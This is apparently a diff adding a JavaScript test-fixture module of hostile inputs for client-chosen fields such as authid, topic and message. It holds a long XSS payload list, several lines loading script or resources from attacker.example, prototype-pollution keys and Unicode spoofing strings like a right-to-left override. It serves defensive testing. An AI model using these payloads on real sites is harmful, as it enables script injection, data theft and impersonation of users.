@@ -1,0 +1,81 @@
+/** Texts that try to be more than text: what a client may choose as authid, topic, agent or message. */
+
+const RUN = "document.title='owned'";
+
+export const MARKUP = [
+  `<script>${RUN}</script>`,
+  `<ScRiPt >${RUN}</sCrIpT>`,
+  `</script><script>${RUN}</script>`,
+  `<script src=//attacker.example/x.js></script>`,
+  `<img src=x onerror=${RUN}>`,
+  `<img/src/onerror=${RUN}>`,
+  `<svg onload=${RUN}>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
+  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
+  `<iframe src="javascript:${RUN}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
+  `<object data="javascript:${RUN}"></object>`,
+  `<embed src="javascript:${RUN}">`,
+  `<a href="javascript:${RUN}">x</a>`,
+  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
+  `<form action="https://attacker.example/"><input name=a autofocus onfocus=${RUN}></form>`,
+  `<button formaction="javascript:${RUN}">x</button>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<details open ontoggle=${RUN}>`,
+  `<video><source onerror=${RUN}></video>`,
+  `<audio src=x onerror=${RUN}>`,
+  `<body onload=${RUN}>`,
+  `<marquee onstart=${RUN}>`,
+  `<link rel=stylesheet href=//attacker.example/x.css>`,
+  `<link rel=import href=//attacker.example/x.html>`,
+  `<style>*{background:url(//attacker.example/x)}</style>`,
+  `<style>@import'//attacker.example/x.css';</style>`,
+  `<div style="position:fixed;inset:0;background:url(//attacker.example/x)">`,
+  `<base href=//attacker.example/>`,
+  `<meta http-equiv=refresh content="0;url=//attacker.example/">`,
+  `<template><script>${RUN}</script></template>`,
+  `<slot name=x onslotchange=${RUN}>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<textarea></textarea><img src=x onerror=${RUN}>`,
+  `<title></title><script>${RUN}</script>`,
+  `<!--><script>${RUN}</script>-->`,
+  `<![CDATA[><script>${RUN}</script>]]>`,
+  `<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml" onload="${RUN}"/>`,
+  `<x onclick=${RUN} tabindex=0 autofocus onfocus=${RUN}>`,
+  `"><img src=x onerror=${RUN}>`,
+  `' onmouseover='${RUN}`,
+  `" autofocus onfocus="${RUN}" x="`,
+  "`${" + RUN + "}`",
+  "${" + RUN + "}",
+  "{{constructor.constructor('" + RUN.replaceAll("'", '"') + "')()}}",
+  "<%= 7*7 %>",
+  `javascript:${RUN}//`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `&#60;img src=x onerror=${RUN}&#62;`,
+  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
+  `%3Cscript%3E${RUN}%3C/script%3E`,
+  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
+  "__proto__",
+  "constructor",
+  "toString",
+];
+
+/** Names and values of what can't be seen, or turns the reading direction around: each has to be shown. */
+export const UNSEEN = {
+  "a right-to-left override": "user\u202eexe.nimda",
+  "an isolate that never ends": "user\u2067operator",
+  "a zero-width space": "opera\u200btor",
+  "a soft hyphen": "opera\u00adtor",
+  "a byte order mark": "\ufeffoperator",
+  "a line separator": "operator\u2028second line",
+  "a tag character": "operator\u{e0041}",
+  "an escape sequence": "\u001b[31mred\u001b[0m",
+  "line breaks": "first\r\nsecond",
+};
+
+export const HUGE = `<b>${"W".repeat(20_000)}</b>`;
+
+/** A text as one or more components of a URI, which has neither spaces nor "#" nor empty components. */
+export const asUri = (text) => `com.${text.replace(/[\s#\u0000-\u0020\u007f]/gu, "/").replace(/\.+/g, ".").replace(/\.$/, "!")}`;
